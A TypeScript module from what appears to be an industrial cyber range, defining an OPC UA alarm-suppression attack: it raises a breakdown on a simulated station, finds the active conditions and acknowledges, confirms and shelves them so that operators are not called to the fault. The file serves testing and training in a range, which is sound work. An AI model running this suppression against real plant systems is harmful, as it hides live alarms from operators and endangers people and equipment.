/**
 * Alarm suppression on OPC UA Alarms & Conditions: with an alarm active on the station (the
 * range raises one first: a breakdown injected through its own instructor account, as an
 * exercise's instructor does), the attacker finds the active conditions (event subscription,
 * ConditionRefresh), acknowledges and confirms them and shelves them where the server offers
 * shelving. The alarm stays active, but operators' lists show it as acknowledged: nobody is
 * called to it, and the acknowledgement carries the attacker's session as its author.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, restore, trail } from './common.ts';

/** the alarm the range raises for the exercise: a breakdown (BREAKDOWN, severity 800) for an hour of line time */
const FAULT = { code: 'breakdown', duration: 3600 };
const FAULTED = 'alarm-suppression:faulted';

export const opcuaAlarmSuppression: Attack = {
  id: 'opcua-alarm-suppression',
  title: 'OPC UA alarm suppression: the station\'s active alarm acknowledged, confirmed (and shelved where offered) by the attacker',
  techniques: [T.alarmSuppression, T.unauthorizedCommandMessage],
  face: 'opcua',
  preconditions: [
    'an alarm active on the station (the range injects a breakdown through its instructor account when it observes the line)',
    'a session that may call Acknowledge (anonymous under a weak profile, or an operator\'s account)',
  ],
  steps: [
    'the range raises the alarm (fault breakdown on the station) and waits until it is active',
    'open a session; subscribe to events on the Server object and call ConditionRefresh: the active conditions',
    'Acknowledge and Confirm each unacknowledged condition of the station; OneShotShelve it if the condition has a ShelvingState',
  ],
  expectedImpact: 'the alarm is still active but shows as acknowledged (by the attacker\'s session): operators are not called to the breakdown',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { openSession, reason, suppressConditions } = await import('../clients/opcua.ts');
    const evidence: string[] = [];
    const o = ctx.observer;
    await before(ctx);
    if (o !== null) {
      const r = await o.command(ctx.station, 'fault', FAULT);
      if (r.status === 200) ctx.memo.set(FAULTED, true);
      else evidence.push(`range: could not raise an alarm on ${ctx.station} (fault ${FAULT.code}: HTTP ${r.status}); the attack looks for alarms already active`);
      const end = Date.now() + 15_000;
      while ((await o.station(ctx.station)).alarms === 0 && Date.now() < end) await new Promise((res) => setTimeout(res, 150));
    }
    const was = o === null ? null : await o.station(ctx.station);
    if (was !== null) evidence.push(`range: ${ctx.station} alarms active 0x${was.alarms.toString(16)}, acknowledged 0x${(was.tags.alarmsAcked ?? 0).toString(16)} before the attack`);
    const f = await openSession(ctx, evidence);
    let found: Awaited<ReturnType<typeof suppressConditions>> = [];
    let failed: string | null = f === null ? 'no session' : null;
    if (f !== null) {
      try {
        found = await suppressConditions(f, ctx.station);
        if (found.length === 0) evidence.push(`OPC UA: ConditionRefresh shows no active condition of ${ctx.station}`);
        for (const c of found) {
          evidence.push(c.acked ? `OPC UA: ${c.name} active, acknowledged already` : `OPC UA: ${c.name} active: Acknowledge → ${c.ack ?? 'not called (acknowledged with another)'}, Confirm → ${c.confirm ?? 'not called'}, shelve → ${c.shelve}`);
        }
      } catch (e) {
        failed = reason(e);
        evidence.push(`OPC UA: ${failed}`);
      } finally {
        await f.close();
      }
    }
    const ackCalls = found.filter((c) => c.ack === 'Good').map((c) => c.name);
    // the alarms the attack is about: active and unacknowledged when it began (the line may raise
    // others meanwhile, such as a kiln cooling off its band during the breakdown: not the attacker's doing)
    const target = was === null ? null : was.alarms & ~(was.tags.alarmsAcked ?? 0);
    const pending = (s: { alarms: number; tags: Record<string, number> }): number => (target ?? s.alarms) & s.alarms & ~(s.tags.alarmsAcked ?? 0);
    // the line's own view: those alarm bits still active, and now acknowledged
    const after = o === null ? null : await (async () => {
      const end = Date.now() + (ackCalls.length > 0 ? 5000 : 0);
      let s = await o.station(ctx.station);
      while ((s.alarms & (target ?? s.alarms)) !== 0 && pending(s) !== 0 && Date.now() < end) {
        await new Promise((res) => setTimeout(res, 150));
        s = await o.station(ctx.station);
      }
      return s;
    })();
    const evs = await trail(ctx, evidence, ackCalls.length === 0);
    const ack = evs.find((e) => e.type === 'alarm-ack' && e.station === ctx.station);
    const stillActive = after === null ? null : (after.alarms & (target ?? after.alarms)) !== 0;
    const hidden = after !== null ? target !== 0 && stillActive === true && pending(after) === 0 : ackCalls.length > 0;
    if (after !== null && (after.alarms & ~(was?.alarms ?? 0)) !== 0) evidence.push(`range: ${ctx.station} raised 0x${(after.alarms & ~(was?.alarms ?? 0)).toString(16)} during the attack (not counted)`);
    // each Acknowledge acknowledges its own condition's alarm only: what the attacker hid is what it acknowledged
    const acknowledged = ackCalls;
    return {
      outcome: hidden && ackCalls.length > 0 ? 'succeeded' : 'blocked',
      evidence,
      impact: {
        conditions: found.map((c) => c.name),
        acknowledged, acknowledgeCalls: ackCalls,
        ackedBy: ack === undefined ? null : String(ack.data.principal ?? ''),
        alarmStillActive: stillActive,
        unacknowledgedBefore: target,
        unacknowledgedAfter: after === null ? null : pending(after),
        shelved: found.some((c) => c.shelve === 'Good'),
      },
    };
  },
  async cleanup(ctx) {
    const o = ctx.observer;
    if (o !== null && ctx.memo.get(FAULTED) === true) {
      const r = await o.command(ctx.station, 'repair');
      ctx.log(`cleanup: ${ctx.station} breakdown repaired (${r.status === 200 ? 'ok' : `HTTP ${r.status}`})`);
    }
    await restore(ctx);
  },
};
